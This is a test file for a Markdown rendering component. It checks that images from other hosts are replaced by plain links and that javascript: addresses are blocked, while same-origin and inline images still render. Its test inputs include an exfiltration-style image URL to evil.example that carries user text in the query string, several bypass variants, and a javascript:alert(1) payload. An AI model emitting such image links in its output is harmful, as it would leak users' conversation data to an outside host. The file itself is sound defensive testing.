import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown } from "../markdown";

afterEach(cleanup);

const PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

function renderMarkdown(text: string): HTMLElement {
  return render(<Markdown text={text} />).container;
}

describe("Markdown images", () => {
  it("does not load a picture from another site: a link naming its host, for a new tab", () => {
    const page = renderMarkdown("Look: ![the chart](https://evil.example/p.png?d=what%20the%20user%20said)");
    expect(page.querySelector("img")).toBeNull();
    const link = page.querySelector<HTMLAnchorElement>('[data-testid="remote-image"]');
    expect(link?.tagName).toBe("A");
    expect(link?.textContent).toContain("the chart");
    expect(link?.textContent).toContain("evil.example");
    expect(link?.getAttribute("href")).toBe("https://evil.example/p.png?d=what%20the%20user%20said");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it.each([
    "![x](//evil.example/p.png)",
    "![x](HTTPS://EVIL.EXAMPLE/p.png)",
    "![x](http://localhost:3001/p.png)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    '<img src="https://evil.example/p.png">',
  ])("loads nothing for %j", (text) => {
    const page = renderMarkdown(text);
    expect(page.querySelector("img")).toBeNull();
  });

  it("shows pictures of this origin and inline ones", () => {
    const page = renderMarkdown(`![ours](/files/chart.png) ![dot](${PIXEL})`);
    const images = Array.from(page.querySelectorAll("img"));
    expect(images.map((img) => img.getAttribute("alt"))).toEqual(["ours", "dot"]);
    expect(images[0]!.getAttribute("src")).toBe(`${window.location.origin}/files/chart.png`);
    expect(images[1]!.getAttribute("src")).toBe(PIXEL);
    expect(page.querySelector('[data-testid="remote-image"]')).toBeNull();
  });

  it("neither loads nor links a script address", () => {
    const page = renderMarkdown("![x](javascript:alert(1))");
    expect(page.querySelector("img")).toBeNull();
    expect(page.querySelector("a")).toBeNull();
    expect(page.querySelector('[data-testid="remote-image"]')?.textContent).toContain("x");
  });
});
